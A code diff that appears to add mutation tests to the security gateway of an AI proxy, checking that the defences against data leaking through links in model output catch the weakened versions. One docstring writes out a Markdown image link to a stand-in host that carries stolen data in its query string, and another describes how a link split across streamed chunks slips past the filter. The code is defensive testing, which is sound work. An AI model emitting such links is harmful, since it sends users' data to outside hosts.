@@ -5,7 +5,8 @@ from __future__ import annotations
 
 from typing import Any
 
-from fak_core.gateway import anthropic_proxy, carriers, openai_proxy
+from fak_core import textlinks
+from fak_core.gateway import anthropic_proxy, carriers, openai_proxy, text_output
 from pytest_fak import mutant
 
 from .sourcepatch import edited
@@ -48,5 +49,29 @@ def split_base64_secret_passes() -> Any:
         (
             "orders = [texts, readable, json_strings(content, keys=False)]",
             "orders = [texts, json_strings(content, keys=False)]",
+        ),
+    )
+
+
+@mutant("D10.8/text-output-unpoliced")
+def text_output_unpoliced() -> Any:
+    """The model's text reaches the client as the upstream wrote it, tainted session or
+    not (the original proxies): ``![x](https://evil.example/p.png?d=<data>)`` is fetched
+    by a client that renders Markdown."""
+    return edited(
+        text_output.text_policy,
+        ('if state.text_links == "off"', 'if True or state.text_links == "off"'),
+    )
+
+
+@mutant("D10.8/stream-leaks-prefix")
+def stream_leaks_prefix() -> Any:
+    """A streamed text is decided piece by piece as it arrives: a link cut across two
+    deltas is two words, neither of which names the destination, and goes out whole."""
+    return edited(
+        textlinks.TextStream.feed,
+        (
+            "while end and not text[end - 1].isspace():",
+            "while False and end and not text[end - 1].isspace():",
         ),
     )
